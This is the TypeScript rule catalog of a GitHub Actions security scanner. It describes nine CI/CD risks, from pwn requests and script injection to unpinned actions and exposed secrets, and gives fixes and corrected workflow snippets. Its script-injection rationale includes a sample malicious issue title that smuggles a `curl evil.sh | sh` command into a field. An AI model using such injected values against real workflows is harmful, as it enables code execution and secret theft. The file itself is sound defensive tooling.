import type { RuleDescriptor } from '../../../core/finding.js';
import type { Severity } from '../../../core/severity.js';
import { CICD_RISKS, type CicdRisk } from '../cicd-sec.js';

/**
 * The GitHub Actions rule catalog: metadata only. Detection lives in `checks/`, one
 * module per rule family; a check refers to its rule by `name`.
 *
 * `message` is a template: `{name}` placeholders are filled by the check with the
 * specifics of the finding (job, step, expression, trigger…).
 * OWASP references are OWASP Top 10:2021 categories; `cicd` is the OWASP Top 10 CI/CD
 * Security Risks entry (https://owasp.org/www-project-top-10-ci-cd-security-risks/).
 */
export interface GithubActionsRule {
  /** Short name; the rule id is `pipeline.github-actions.<name>`. */
  name: RuleName;
  title: string;
  /** Default severity; a check may lower or raise one finding's severity and says why in its message. */
  severity: Severity;
  confidence: 'high' | 'medium' | 'low';
  cwe: string[];
  owasp: string[];
  cicd?: CicdRisk;
  /** Why it matters (SARIF fullDescription). */
  rationale: string;
  message: string;
  remediation: string;
  /** A corrected workflow fragment. */
  example: string;
  references: string[];
}

export type RuleName =
  | 'untrusted-checkout'
  | 'untrusted-artifact'
  | 'script-injection'
  | 'unpinned-action'
  | 'missing-permissions'
  | 'excessive-permissions'
  | 'secrets-exposed-to-untrusted-code'
  | 'secrets-inherit'
  | 'self-hosted-runner-public-pr';

const PWN_REQUESTS = 'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/';
const UNTRUSTED_INPUT = 'https://securitylab.github.com/resources/github-actions-untrusted-input/';
const HARDENING = 'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions';
const PERMISSIONS = 'https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#permissions';
const TOKEN = 'https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication';

export const RULE_CATALOG: readonly GithubActionsRule[] = [
  {
    name: 'untrusted-checkout',
    title: 'Privileged workflow checks out and runs pull request code ("pwn request")',
    severity: 'critical',
    confidence: 'high',
    cwe: ['CWE-829', 'CWE-94'],
    owasp: ['A08:2021-Software and Data Integrity Failures', 'A03:2021-Injection'],
    cicd: CICD_RISKS.poisonedPipeline,
    rationale:
      '`pull_request_target`, `workflow_run` and `issue_comment` workflows run in the context of the base repository: ' +
      'they get its secrets and a GITHUB_TOKEN that can write. Checking out the pull request (or the triggering run) ' +
      "and then building, installing or running anything executes the contributor's code — package scripts, " +
      'Makefiles, test files, local actions — with those privileges.',
    message:
      "Job '{job}' runs on {trigger} and checks out untrusted code ({ref}), then {execution}: the contributor's code " +
      "runs with the base repository's secrets and token.",
    remediation:
      'Build and test untrusted code in a `pull_request` workflow (no secrets, read-only token). If a privileged ' +
      'workflow must act on its results, pass them as an artifact to a separate `workflow_run` job that treats them as ' +
      'data and never executes them. If the checkout is needed for a read-only purpose, do not run anything from it ' +
      'and set `persist-credentials: false`.',
    example: [
      'on: pull_request            # runs the fork\'s code without secrets or a write token',
      'permissions:',
      '  contents: read',
      'jobs:',
      '  test:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
      '        with:',
      '          persist-credentials: false',
      '      - run: npm ci && npm test',
    ].join('\n'),
    references: [PWN_REQUESTS, HARDENING, CICD_RISKS.poisonedPipeline.url],
  },
  {
    name: 'untrusted-artifact',
    title: 'workflow_run workflow downloads and uses artifacts of the triggering run',
    severity: 'high',
    confidence: 'medium',
    cwe: ['CWE-829'],
    owasp: ['A08:2021-Software and Data Integrity Failures'],
    cicd: CICD_RISKS.poisonedPipeline,
    rationale:
      "A `workflow_run` workflow is privileged, but the run that triggered it may be a fork's `pull_request` run, " +
      'whose artifacts the contributor controls. Unpacking them over the workspace and running scripts or builds ' +
      'afterwards lets the contributor replace files the privileged job executes.',
    message:
      "Job '{job}' runs on workflow_run and downloads artifacts of the triggering run ({download}), then {execution}: " +
      'the artifact content is attacker-controlled when the triggering run came from a fork.',
    remediation:
      'Treat artifacts as untrusted data: extract them into a dedicated directory outside the workspace (for example ' +
      '`${{ runner.temp }}/artifacts`), validate their content (numbers, fixed formats) before use, and never execute ' +
      'or `source` anything from them.',
    example: [
      '      - uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093 # v4.3.0',
      '        with:',
      '          name: pr-number',
      '          path: ${{ runner.temp }}/artifacts',
      '          run-id: ${{ github.event.workflow_run.id }}',
      '          github-token: ${{ github.token }}',
      '      - name: Read the PR number as data',
      '        run: |',
      '          pr=$(cat "$RUNNER_TEMP/artifacts/pr-number")',
      '          [[ "$pr" =~ ^[0-9]+$ ]] || exit 1',
    ].join('\n'),
    references: [PWN_REQUESTS, 'https://securitylab.github.com/resources/github-actions-new-patterns-and-mitigations/', CICD_RISKS.poisonedPipeline.url],
  },
  {
    name: 'script-injection',
    title: 'Attacker-controlled expression interpolated into a script',
    severity: 'high',
    confidence: 'high',
    cwe: ['CWE-78', 'CWE-94'],
    owasp: ['A03:2021-Injection'],
    cicd: CICD_RISKS.poisonedPipeline,
    rationale:
      '`${{ }}` expressions are substituted into `run:` scripts and `actions/github-script` code before the shell or ' +
      'Node.js sees them. Issue and pull request titles and bodies, comments, branch names and commit messages are ' +
      'chosen by whoever opens them, so a title like `a"; curl evil.sh | sh; echo "` becomes code that runs with the ' +
      "job's secrets and token.",
    message: "`${{ {expression} }}` in {sink} of job '{job}' is attacker-controlled ({context}) and is pasted into the {language} before it runs.",
    remediation:
      'Pass the value through an environment variable and use it quoted as data (`"$TITLE"` in shell, ' +
      '`process.env.TITLE` in github-script). Expressions in `env:`, `with:` and `if:` are not parsed as code.',
    example: [
      '      - name: Greet',
      '        env:',
      '          TITLE: ${{ github.event.issue.title }}',
      '        run: echo "New issue - $TITLE"',
    ].join('\n'),
    references: [UNTRUSTED_INPUT, `${HARDENING}#understanding-the-risk-of-script-injections`, CICD_RISKS.poisonedPipeline.url],
  },
  {
    name: 'unpinned-action',
    title: 'Action or reusable workflow not pinned to a full commit SHA',
    severity: 'medium',
    confidence: 'high',
    cwe: ['CWE-829'],
    owasp: ['A08:2021-Software and Data Integrity Failures'],
    cicd: CICD_RISKS.dependencyChain,
    rationale:
      'Tags and branches can be moved to other code by the action\'s owner or by anyone who compromises it. In March ' +
      '2025 every tag of tj-actions/changed-files was repointed to a commit that printed CI secrets into public logs ' +
      '(CVE-2025-30066); workflows pinned to a commit SHA were unaffected. Actions published by GitHub (`actions/*`, ' +
      '`github/*`) are reported as low.',
    message: "{kind} '{reference}' in job '{job}' is pinned to '{ref}', {refKind}: its owner, or whoever compromises it, can change the code this workflow runs.",
    remediation:
      'Pin to the full 40-character commit SHA of a reviewed release and keep the version in a comment so Dependabot ' +
      'or Renovate can propose updates. Pin container actions by image digest (`docker://image@sha256:…`).',
    example: [
      '      - uses: tj-actions/changed-files@ed68ef82c095e0d48ec87eccea555d944a631a4c # v46.0.5',
    ].join('\n'),
    references: [
      `${HARDENING}#using-third-party-actions`,
      'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3',
      CICD_RISKS.dependencyChain.url,
    ],
  },
  {
    name: 'missing-permissions',
    title: 'Workflow does not restrict GITHUB_TOKEN permissions',
    severity: 'low',
    confidence: 'high',
    cwe: ['CWE-732'],
    owasp: ['A01:2021-Broken Access Control'],
    cicd: CICD_RISKS.pbac,
    rationale:
      'Without a `permissions:` block the token gets the repository or organisation default, which is read-write on ' +
      'every scope for repositories created before February 2023 and for organisations that never changed it. Any ' +
      'compromised step (a malicious action, an injected script) can then push code, create releases or publish ' +
      'packages. Reported as medium on triggers any GitHub user can cause.',
    message: "Workflow triggered by {triggers} has no top-level `permissions:` and job(s) {jobs} set none: they get the default token permissions, which may be write-all.",
    remediation:
      'Declare `permissions:` at the top of the workflow with the least access (often `contents: read`) and grant ' +
      'extra scopes only on the jobs that need them.',
    example: ['permissions:', '  contents: read', 'jobs:', '  release:', '    permissions:', '      contents: write'].join('\n'),
    references: [PERMISSIONS, `${TOKEN}#modifying-the-permissions-for-the-github_token`, CICD_RISKS.pbac.url],
  },
  {
    name: 'excessive-permissions',
    title: 'Broad write permissions for GITHUB_TOKEN',
    severity: 'high',
    confidence: 'medium',
    cwe: ['CWE-732', 'CWE-250'],
    owasp: ['A01:2021-Broken Access Control'],
    cicd: CICD_RISKS.pbac,
    rationale:
      '`write-all`, or write access to contents, actions, packages, deployments, pages or OIDC tokens, in a workflow ' +
      'that reacts to pull requests from forks, comments or issues means one injection or one malicious dependency ' +
      'turns into pushed code, tampered releases or cloud credentials. `write-all` elsewhere is reported as medium.',
    message: '{scope} {level} in a workflow triggered by {triggers}: {why}.',
    remediation:
      'Grant only the scopes a job uses, on that job. Split privileged steps (publishing, commenting) into a job that ' +
      'does not process untrusted input.',
    example: [
      'permissions: {}',
      'jobs:',
      '  label:',
      '    runs-on: ubuntu-latest',
      '    permissions:',
      '      contents: read',
      '      pull-requests: write',
    ].join('\n'),
    references: [PERMISSIONS, TOKEN, CICD_RISKS.pbac.url],
  },
  {
    name: 'secrets-exposed-to-untrusted-code',
    title: 'Secrets available to steps that run after untrusted code is fetched',
    severity: 'high',
    confidence: 'medium',
    cwe: ['CWE-200', 'CWE-829'],
    owasp: ['A01:2021-Broken Access Control', 'A08:2021-Software and Data Integrity Failures'],
    cicd: CICD_RISKS.credentialHygiene,
    rationale:
      "Once a job has checked out a fork's code (or unpacked another run's artifacts) and run anything from it, the " +
      'runner is under the contributor\'s control: later steps can be tampered with and files like `.git/config` or ' +
      'tool caches read. Secrets given to those steps, or to the whole job, leak.',
    message:
      "`secrets.{secret}` is given to {place}, but job '{job}' fetches untrusted code at line {untrustedLine} and runs it: " +
      'code from the pull request (or the downloaded artifact) can read the secret.',
    remediation:
      'Keep secrets out of jobs that touch untrusted code. Use a second job (or a `workflow_run` workflow) that holds ' +
      'the secret, does not check out the pull request, and consumes only validated data from the first.',
    example: [
      'jobs:',
      '  build:            # untrusted code, no secrets',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
      '        with:',
      '          ref: ${{ github.event.pull_request.head.sha }}',
      '          persist-credentials: false',
      '      - run: npm ci && npm run build',
      '  comment:          # secrets, no untrusted code',
      '    needs: build',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - run: gh pr comment "$PR" --body "Build passed"',
      '        env:',
      '          GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}',
      '          PR: ${{ github.event.pull_request.number }}',
    ].join('\n'),
    references: [PWN_REQUESTS, `${HARDENING}#using-secrets`, CICD_RISKS.credentialHygiene.url],
  },
  {
    name: 'secrets-inherit',
    title: 'All secrets passed to a reusable workflow in another repository',
    severity: 'medium',
    confidence: 'medium',
    cwe: ['CWE-200'],
    owasp: ['A01:2021-Broken Access Control'],
    cicd: CICD_RISKS.credentialHygiene,
    rationale:
      '`secrets: inherit` hands every repository, environment and organisation secret to the called workflow. When ' +
      'that workflow lives in another repository, its owner (or whoever compromises it, or moves the ref it is pinned ' +
      'to) receives all of them, not just the ones it needs.',
    message: "Job '{job}' passes all of this repository's secrets (`secrets: inherit`) to '{workflow}', a workflow in another repository.",
    remediation: 'Pass only the secrets the called workflow declares, by name, and pin it to a commit SHA.',
    example: [
      '  deploy:',
      '    uses: example-org/shared-workflows/.github/workflows/deploy.yml@0123456789abcdef0123456789abcdef01234567 # v3.1.0',
      '    secrets:',
      '      DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}',
    ].join('\n'),
    references: ['https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-secrets-to-nested-workflows', CICD_RISKS.credentialHygiene.url],
  },
  {
    name: 'self-hosted-runner-public-pr',
    title: 'Self-hosted runner used by pull request workflows',
    severity: 'medium',
    confidence: 'medium',
    cwe: ['CWE-668'],
    owasp: ['A01:2021-Broken Access Control'],
    cicd: CICD_RISKS.systemConfiguration,
    rationale:
      "`pull_request` workflows run the pull request's own workflow file and code. In a public repository anyone can " +
      'open one, so a self-hosted runner that serves it executes arbitrary code from strangers on your machine, and a ' +
      'persistent (non-ephemeral) runner keeps whatever they leave behind for the next job.',
    message: "Job '{job}' runs on a self-hosted runner ({runsOn}) and is triggered by {triggers}: if the repository is public, anyone who opens a pull request runs code on that machine.",
    remediation:
      'Use GitHub-hosted runners for pull request workflows of public repositories, or ephemeral, isolated self-hosted ' +
      'runners (one job per VM/container, no network path to internal systems) and require approval for workflow ' +
      'runs from outside collaborators.',
    example: ['jobs:', '  test:', '    runs-on: ubuntu-latest'].join('\n'),
    references: [
      'https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security',
      CICD_RISKS.systemConfiguration.url,
    ],
  },
];

/** `pipeline.github-actions.<name>`. */
export function ruleId(name: RuleName): string {
  return `pipeline.github-actions.${name}`;
}

const BY_NAME = new Map(RULE_CATALOG.map((rule) => [rule.name, rule]));

/** The catalog entry of a rule (every `RuleName` has one; a test checks it). */
export function ruleByName(name: RuleName): GithubActionsRule {
  return BY_NAME.get(name)!;
}

/** SARIF-ready descriptor of a catalog entry. */
export function describeGithubActionsRule(rule: GithubActionsRule): RuleDescriptor {
  const cicd = rule.cicd ? `\n\nOWASP Top 10 CI/CD: ${rule.cicd.id} ${rule.cicd.name}.` : '';
  return {
    id: ruleId(rule.name),
    title: rule.title,
    description: rule.rationale + cicd,
    severity: rule.severity,
    category: 'pipeline',
    cwe: rule.cwe,
    owasp: rule.owasp,
    remediation: `${rule.remediation}\n\nExample:\n${rule.example}`,
    references: rule.references,
    precision: rule.confidence,
  };
}

/** Descriptors of every GitHub Actions rule, in catalog order. */
export const GITHUB_ACTIONS_RULES: RuleDescriptor[] = RULE_CATALOG.map(describeGithubActionsRule);
